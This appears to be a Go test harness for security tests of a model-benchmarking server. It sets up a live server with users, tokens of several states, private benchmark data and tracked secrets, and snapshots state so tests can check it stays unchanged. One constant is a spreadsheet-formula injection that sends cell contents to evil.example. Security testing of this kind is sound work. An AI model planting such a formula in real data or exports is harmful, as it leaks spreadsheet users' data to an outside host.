package attacktest

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/glebarez/sqlite"
	"gorm.io/gorm"
	"gorm.io/gorm/logger"

	"github.com/cortexbench/cortexbench/benchmarks"
	"github.com/cortexbench/cortexbench/leaderboard"
	"github.com/cortexbench/cortexbench/leaderboard/snapshot"
	"github.com/cortexbench/cortexbench/leaderboard/stores"
	"github.com/cortexbench/cortexbench/models"
	"github.com/cortexbench/cortexbench/models/onnxmodel/onnxtest"
	"github.com/cortexbench/cortexbench/models/ort"
	"github.com/cortexbench/cortexbench/scoring"
	"github.com/cortexbench/cortexbench/storage/embedded"
	"github.com/cortexbench/cortexbench/storage/npy"
	"github.com/cortexbench/cortexbench/storage/rdmstore"
	"github.com/cortexbench/cortexbench/storage/registry"
)

const (
	pubBench  = "lab.public"
	privBench = "lab.private"
	// hostileName is a model name a spreadsheet would run as a formula.
	hostileName = `=HYPERLINK("http://evil.example/?leak="&A2,"click")`
	tinySpec    = "size=8,crop=1,scale=0.0039,offset=0,layout=NCHW"
)

// users of the platform: two submitters and a maintainer (and dave, a
// disabled maintainer).
var userNames = []string{"alice", "bob", "carol", "dave"}

const manifest = `id: %s
title: %s
parent: lab
%smetadata:
  species: human
  region: IT
  method: fMRI
  licence: CC0-1.0
  citation: "@misc{%s, title = {Generated}, year = {2026}}"
stimuli: {dir: images}
rdms: {file: rdms.npy}
metric: {rsa: {comparison: spearman}}
ceiling: {method: rsa-nili}
`

// platform is a real 'cortexbench serve' process and what was put in it.
type platform struct {
	state, store, db string
	env              []string

	api      string // http://127.0.0.1:PORT of the leaderboard and submissions API
	s3       string // http://127.0.0.1:PORT of the embedded S3 endpoint
	s3Host   string // 127.0.0.1:PORT
	credFile string
	ak, sk   string
	priv     string // private bucket
	pub      string // public bucket

	tokens    map[string]string // alice, bob, carol, revoked and expired (bob's), disabled (dave's, a disabled maintainer)
	aliceSub  string            // alice's submission
	aliceHash string            // alice's model
	scored    []string          // entry IDs of the models scored on both benchmarks
	files     []string          // sha256 of every model file stored (alice's first)
	modelKeys []string          // models/<hash>.onnx of every model

	privRDMKey, privStimKey string // blob keys of the private RDM file and a private stimulus

	secrets *secrets

	mu     sync.Mutex
	stderr bytes.Buffer // the server's
	http   *http.Client
}

// cli runs the binary with args and returns its stdout.
func (p *platform) cli(t *testing.T, args ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, args...)
	cmd.Env = p.env
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Run(); err != nil {
		t.Fatalf("cortexbench %s: %v\n%s%s", strings.Join(args, " "), err, out.String(), errb.String())
	}
	return out.String()
}

// ortLib finds ONNX Runtime as the other tests do, or skips.
func ortLib(t *testing.T) string {
	t.Helper()
	lib := os.Getenv("CORTEXBENCH_ONNXRUNTIME_LIB")
	if lib == "" {
		lib = filepath.Join("..", "..", ort.DefaultLibraryPath)
	}
	abs, err := filepath.Abs(lib)
	if err == nil {
		_, err = os.Stat(abs)
	}
	if err != nil {
		t.Skipf("ONNX Runtime not installed (run ./scripts/setup.sh): %v", err)
	}
	return abs
}

// writeDataset writes n generated PNGs named names, a subjects×n×n RDM
// .npy and the manifest; it returns the images' bytes and the RDMs.
func writeDataset(t *testing.T, dir, man string, names []string, subjects int, seed int, val func(s, i, j int) float64) ([][]byte, []float64) {
	t.Helper()
	if err := os.MkdirAll(filepath.Join(dir, "images"), 0o755); err != nil {
		t.Fatal(err)
	}
	var imgs [][]byte
	for k, name := range names {
		img := image.NewRGBA(image.Rect(0, 0, 16, 16))
		for q := 0; q < 256; q++ {
			img.Set(q%16, q/16, color.RGBA{uint8(37*k + seed), uint8(q * (seed + 1)), uint8(255 - 29*k), 255})
		}
		var b bytes.Buffer
		if err := png.Encode(&b, img); err != nil {
			t.Fatal(err)
		}
		imgs = append(imgs, b.Bytes())
		if err := os.WriteFile(filepath.Join(dir, "images", name), b.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	n := len(names)
	rdms := make([]float64, subjects*n*n)
	for s := 0; s < subjects; s++ {
		for i := 0; i < n; i++ {
			for j := i + 1; j < n; j++ {
				v := val(s, i, j)
				rdms[s*n*n+i*n+j], rdms[s*n*n+j*n+i] = v, v
			}
		}
	}
	if err := npy.WriteFile(filepath.Join(dir, "rdms.npy"), []int{subjects, n, n}, rdms); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "manifest.yaml"), []byte(man), 0o644); err != nil {
		t.Fatal(err)
	}
	return imgs, rdms
}

// tinyModel is the tiny CNN with its weights shifted by k: another file,
// another hash.
func tinyModel(k int) []byte {
	b := onnxtest.TinyCNN()
	w := b.M.Graph.Initializer[0].FloatData
	for i := range w {
		w[i] += float32(k) * 0.01 * float32(i%3)
	}
	return b.Bytes()
}

// childEnv is the test's environment for the binary, without anything
// that would point it at other state or credentials (CORTEXBENCH_*, AWS_*,
// PG*), with HOME in the platform's folder and ONNX Runtime at lib.
func childEnv(home, lib string) []string {
	var env []string
	for _, kv := range os.Environ() {
		k, _, _ := strings.Cut(kv, "=")
		if k == "HOME" || strings.HasPrefix(k, "CORTEXBENCH_") || strings.HasPrefix(k, "AWS_") || strings.HasPrefix(k, "PG") {
			continue
		}
		env = append(env, kv)
	}
	return append(env, "HOME="+home, "CORTEXBENCH_ONNXRUNTIME_LIB="+lib)
}

func freePort(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	ln.Close()
	return addr
}

func sha(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

var announceRE = regexp.MustCompile(`embedded S3: (http://\S+) bucket (\S+), credentials (.+) \(access key (\S+)\); public snapshot http://[^/]+/([^/\s]+)/`)

// startPlatform sets the platform up with the CLI, publishes a snapshot,
// and starts 'cortexbench serve'; the server is stopped when t ends.
func startPlatform(t *testing.T) *platform {
	t.Helper()
	lib := ortLib(t)
	cortexbench(t)
	state := t.TempDir()
	p := &platform{
		state: state, store: filepath.Join(state, "objects"), db: filepath.Join(state, "registry.db"),
		env:    childEnv(state, lib),
		tokens: map[string]string{},
		http:   &http.Client{Timeout: 30 * time.Second},
	}
	sec := newSecrets()
	p.secrets = sec

	// A public benchmark and a private one selecting its layer on it.
	data := t.TempDir()
	pubDir, privDir := filepath.Join(data, "pub"), filepath.Join(data, "priv")
	writeDataset(t, pubDir, fmt.Sprintf(manifest, pubBench, "Public", "scoring: {selection: held-out}\n", "pub"),
		[]string{"a.png", "b.png", "c.png", "d.png", "e.png", "f.png"}, 3, 1,
		func(s, i, j int) float64 { return 0.5 + 0.05*float64(i+j) + 0.02*float64((s*5+i*7+j*3)%5) })
	secretNames := []string{"secret-okapi.png", "secret-narwhal.png", "secret-axolotl.png", "secret-quokka.png", "secret-pangolin.png", "secret-tapir.png"}
	privImgs, privRDMs := writeDataset(t, privDir, fmt.Sprintf(manifest, privBench, "Private", "private: true\npartner: "+pubBench+"\n", "priv"),
		secretNames, 3, 7, func(s, i, j int) float64 {
			return 0.7313 + 0.0123457*float64(i+2*j) + 0.00173*float64((s*3+i*5+j)%7) + 1e-9*float64(s+1)
		})
	for _, n := range secretNames {
		sec.add("private stimulus name "+n, strings.TrimSuffix(n, ".png"))
	}
	for k, img := range privImgs {
		sec.addBytes(fmt.Sprintf("private stimulus %d", k), img)
		sec.add(fmt.Sprintf("private stimulus %d sha256", k), sha(img))
	}
	raw, err := os.ReadFile(filepath.Join(privDir, "rdms.npy"))
	if err != nil {
		t.Fatal(err)
	}
	sec.addBytes("private rdms.npy", raw)
	p.privRDMKey, p.privStimKey = "benchmarks/blobs/sha256/"+sha(raw), "benchmarks/blobs/sha256/"+sha(privImgs[0])
	sec.add("private rdms.npy sha256", sha(raw))
	n := len(secretNames)
	for i := 0; i < n; i++ {
		for j := i + 1; j < n; j++ {
			mean := 0.0
			for s := 0; s < 3; s++ {
				v := privRDMs[s*n*n+i*n+j]
				sec.addNumber(fmt.Sprintf("private RDM value s%d (%d,%d)", s, i, j), v)
				mean += v / 3
			}
			sec.addNumber(fmt.Sprintf("private mean RDM value (%d,%d)", i, j), mean)
		}
	}

	for _, dir := range []string{pubDir, privDir} {
		p.cli(t, "benchmarks", "add", "--store", p.store, "--db", p.db, filepath.Join(dir, "manifest.yaml"))
	}

	// Two models scored on both benchmarks, one with a formula for a name.
	models := t.TempDir()
	for k, name := range []string{"tiny-cnn", hostileName} {
		file := filepath.Join(models, fmt.Sprintf("m%d.onnx", k))
		data := tinyModel(k)
		if err := os.WriteFile(file, data, 0o644); err != nil {
			t.Fatal(err)
		}
		sec.addBytes("model file "+name, data)
		p.scored = append(p.scored, entryID(t, data))
		p.files = append(p.files, sha(data))
		p.cli(t, "score", "--model", file, "--name", name, "--preprocess", tinySpec, "--benchmark", pubBench+","+privBench,
			"--store", p.store, "--db", p.db, "--bootstrap", "50")
	}

	// Users and tokens.
	p.cli(t, "users", "add", "alice", "--role", "submitter", "--db", p.db)
	p.cli(t, "users", "add", "bob", "--role", "submitter", "--db", p.db)
	p.cli(t, "users", "add", "carol", "--role", "maintainer", "--db", p.db)
	token := func(user string, extra ...string) (string, string) {
		var tok struct{ ID, Token string }
		out := p.cli(t, append([]string{"tokens", "create", "--user", user, "--json", "--db", p.db}, extra...)...)
		if err := json.Unmarshal([]byte(out), &tok); err != nil || tok.Token == "" {
			t.Fatalf("tokens create: %v\n%s", err, out)
		}
		sec.add("API token "+tok.ID+" of "+user, tok.Token)
		return tok.ID, tok.Token
	}
	for _, u := range userNames[:3] {
		_, p.tokens[u] = token(u)
	}
	id, tok := token("bob")
	p.tokens["revoked"] = tok
	p.cli(t, "tokens", "revoke", id, "--db", p.db)
	p.cli(t, "users", "add", "dave", "--role", "maintainer", "--db", p.db)
	_, p.tokens["disabled"] = token("dave")
	p.cli(t, "users", "disable", "dave", "--db", p.db)
	expiredAt := time.Now().Add(time.Second)
	_, p.tokens["expired"] = token("bob", "--expires", "1s")

	p.publishAndCollect(t)

	// The server: submissions accepted, no scoring workers, so nothing
	// changes by itself while the attacks run.
	addr := freePort(t)
	cmd := exec.Command(bin, "serve", "--addr", addr, "--store", p.store, "--db", p.db, "--no-workers", "--refresh", "200ms")
	cmd.Env = p.env
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	stderr, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	exited := make(chan struct{})
	lines := make(chan string, 64)
	var wg sync.WaitGroup
	for _, r := range []io.Reader{stdout, stderr} {
		wg.Add(1)
		go func() {
			defer wg.Done()
			sc := bufio.NewScanner(r)
			for sc.Scan() {
				p.mu.Lock()
				p.stderr.WriteString(sc.Text() + "\n")
				p.mu.Unlock()
				select {
				case lines <- sc.Text():
				default:
				}
			}
		}()
	}
	go func() { wg.Wait(); cmd.Wait(); close(exited) }()
	t.Cleanup(func() {
		cmd.Process.Signal(syscall.SIGINT)
		select {
		case <-exited:
		case <-time.After(15 * time.Second):
			cmd.Process.Kill()
			<-exited
		}
		if t.Failed() {
			t.Logf("server output:\n%s", p.serverOutput())
		}
	})
	deadline := time.After(60 * time.Second)
	for p.api == "" || p.s3 == "" {
		select {
		case l := <-lines:
			if m := announceRE.FindStringSubmatch(l); m != nil {
				p.s3, p.priv, p.credFile, p.ak, p.pub = m[1], m[2], m[3], m[4], m[5]
				p.s3Host = strings.TrimPrefix(p.s3, "http://")
			}
			if strings.HasPrefix(l, "leaderboard: http://") {
				p.api = "http://" + addr
			}
		case <-exited:
			t.Fatalf("serve exited:\n%s", p.serverOutput())
		case <-deadline:
			t.Fatalf("serve did not announce its addresses in 60 s:\n%s", p.serverOutput())
		}
	}
	creds, err := os.ReadFile(p.credFile)
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range strings.Split(string(creds), "\n") {
		if k, v, ok := strings.Cut(l, "="); ok && strings.TrimSpace(k) == "aws_secret_access_key" {
			p.sk = strings.TrimSpace(v)
		}
	}
	if p.sk == "" {
		t.Fatalf("no secret in %s", p.credFile)
	}
	sec.add("S3 secret key", p.sk)

	// Alice submits a model of her own.
	file := filepath.Join(models, "alice.onnx")
	data2 := tinyModel(5)
	if err := os.WriteFile(file, data2, 0o644); err != nil {
		t.Fatal(err)
	}
	sec.addBytes("alice's model file", data2)
	var acc struct {
		ID        string `json:"id"`
		ModelHash string `json:"model_hash"`
	}
	out := p.cli(t, "submit", file, "--name", "alice-net", "--preprocess", tinySpec, "--server", p.api, "--token", p.tokens["alice"], "--json")
	if err := json.Unmarshal([]byte(out), &acc); err != nil || acc.ID == "" || acc.ModelHash != entryID(t, data2) {
		t.Fatalf("alice's submission: %v\n%s", err, out)
	}
	p.aliceSub, p.aliceHash = acc.ID, acc.ModelHash
	p.files = append([]string{sha(data2)}, p.files...)
	for _, h := range p.files {
		p.modelKeys = append(p.modelKeys, "models/"+h+".onnx")
	}
	if d := time.Until(expiredAt); d > 0 {
		time.Sleep(d + 100*time.Millisecond)
	}
	return p
}

func (p *platform) serverOutput() string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.stderr.String()
}

// publishAndCollect opens the store in-process (no server runs yet),
// publishes the leaderboard snapshot as 'cortexbench run' does, and adds
// to the secrets what only the store knows: the private benchmark's blob
// keys and entry, the models' RDMs on it and the per-layer profiles of
// the private scores.
func (p *platform) publishAndCollect(t *testing.T) {
	t.Helper()
	ctx := t.Context()
	bucket, srv, err := embedded.Open(ctx, embedded.Config{Dir: p.store})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close(context.Background())
	pub, err := srv.OpenPublic(ctx)
	if err != nil {
		t.Fatal(err)
	}
	db, err := registry.Open(ctx, registry.Config{SQLitePath: p.db})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	bench := benchmarks.NewRegistry(bucket)
	ix, err := leaderboard.Load(ctx, stores.Board{DB: db, Bench: bench})
	if err != nil {
		t.Fatal(err)
	}
	lb := ix.Rank(leaderboard.Filter{})
	if len(lb.Rows) != 2 {
		t.Fatalf("the leaderboard has %d rows, want the 2 scored models", len(lb.Rows))
	}
	if _, err := snapshot.Publish(ctx, pub, lb, time.Now()); err != nil {
		t.Fatal(err)
	}

	b, err := bench.Benchmark(ctx, privBench)
	if err != nil || !b.Private {
		t.Fatalf("private benchmark: %+v, %v", b, err)
	}
	entry, err := json.Marshal(b)
	if err != nil {
		t.Fatal(err)
	}
	for _, h := range regexp.MustCompile(`[0-9a-f]{64}`).FindAllString(string(entry), -1) {
		p.secrets.add("private blob "+h, h)
	}
	for _, h := range p.scored {
		_, vals, err := rdmstore.Store{Bucket: bucket}.ModelRDM(ctx, h, privBench)
		if err != nil {
			t.Fatalf("model RDM on the private benchmark: %v", err)
		}
		for i, v := range vals {
			p.secrets.addNumber(fmt.Sprintf("model %.8s RDM on the private benchmark [%d]", h, i), v)
		}
		p.secrets.add("model RDM key", rdmstore.Key(h, privBench))
	}
	scores, err := db.ListScores(ctx, registry.ScoreFilter{ScorerVersion: scoring.ScorerVersion})
	if err != nil {
		t.Fatal(err)
	}
	var nPriv int
	for _, s := range scores {
		if s.BenchmarkID != privBench {
			continue
		}
		nPriv++
		public := map[string]bool{}
		for _, x := range []float64{s.Raw, s.Ceiling, s.Ceiled, s.SE, s.CILow, s.CIHigh} {
			for _, f := range numberForms(x) {
				public[f] = true
			}
		}
		for _, l := range s.Layers {
			for _, x := range []float64{l.Raw, l.Ceiled, l.SE} {
				if fs := numberForms(x); len(fs) > 0 && !public[fs[0]] {
					p.secrets.addNumber(fmt.Sprintf("per-layer profile %s of %.8s on the private benchmark", l.Layer, s.ModelHash), x)
				}
			}
		}
	}
	if nPriv != 2 {
		t.Fatalf("%d scores on the private benchmark, want 2", nPriv)
	}
	p.secrets.add("private entry key", "benchmarks/entries/"+privBench+"/")
}

// storeState is every file of the object store with its content's hash.
func (p *platform) storeState(t *testing.T) map[string]string {
	t.Helper()
	st := map[string]string{}
	err := filepath.WalkDir(p.store, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(p.store, path)
		if d.IsDir() {
			st[rel] = "dir"
			return nil
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		st[rel] = sha(data)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return st
}

// registryState is every row of every table of the registry, but the
// job queue's and tokens' last use (a refused request may record neither,
// an accepted one does).
func (p *platform) registryState(t *testing.T) []string {
	t.Helper()
	db, err := gorm.Open(sqlite.Open("file:"+p.db+"?mode=ro"), &gorm.Config{Logger: logger.Discard})
	if err != nil {
		t.Fatal(err)
	}
	sqlDB, err := db.DB()
	if err != nil {
		t.Fatal(err)
	}
	defer sqlDB.Close()
	var tables []string
	if err := db.Raw("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name").Scan(&tables).Error; err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, tb := range tables {
		if strings.HasPrefix(tb, "river_") || strings.HasPrefix(tb, "sqlite_") {
			continue
		}
		rows, err := sqlDB.Query(`SELECT * FROM "` + tb + `"`)
		if err != nil {
			t.Fatal(err)
		}
		cols, _ := rows.Columns()
		for rows.Next() {
			vals := make([]any, len(cols))
			ptrs := make([]any, len(cols))
			for i := range vals {
				ptrs[i] = &vals[i]
			}
			if err := rows.Scan(ptrs...); err != nil {
				t.Fatal(err)
			}
			var b strings.Builder
			b.WriteString(tb)
			for i, c := range cols {
				if c == "last_used_at" {
					continue
				}
				v := vals[i]
				if bs, ok := v.([]byte); ok {
					v = string(bs)
				}
				fmt.Fprintf(&b, " %s=%v", c, v)
			}
			out = append(out, b.String())
		}
		rows.Close()
	}
	sort.Strings(out)
	return out
}

// snapshotState is what the attacks must not change.
type snapshotState struct {
	store    map[string]string
	registry []string
}

func (p *platform) snapshot(t *testing.T) snapshotState {
	t.Helper()
	return snapshotState{p.storeState(t), p.registryState(t)}
}

// unchanged fails t if the store or the registry differs from before;
// it returns the state now, so the next attack is judged on its own.
func (p *platform) unchanged(t *testing.T, before snapshotState) snapshotState {
	t.Helper()
	after := p.snapshot(t)
	for k, v := range before.store {
		if after.store[k] != v {
			t.Errorf("store object %s changed (%s → %s)", k, v, after.store[k])
		}
	}
	for k := range after.store {
		if _, ok := before.store[k]; !ok {
			t.Errorf("store object %s appeared", k)
		}
	}
	if a, b := strings.Join(before.registry, "\n"), strings.Join(after.registry, "\n"); a != b {
		t.Errorf("the registry changed:\nbefore:\n%s\nafter:\n%s", a, b)
	}
	return after
}

// entryID is the model entry (file, tinySpec) of an ONNX file: what scores,
// routes and model RDMs are keyed by.
func entryID(t *testing.T, file []byte) string {
	t.Helper()
	spec, err := models.ParseSpec(tinySpec)
	if err != nil {
		t.Fatal(err)
	}
	return models.EntryID(sha(file), spec)
}
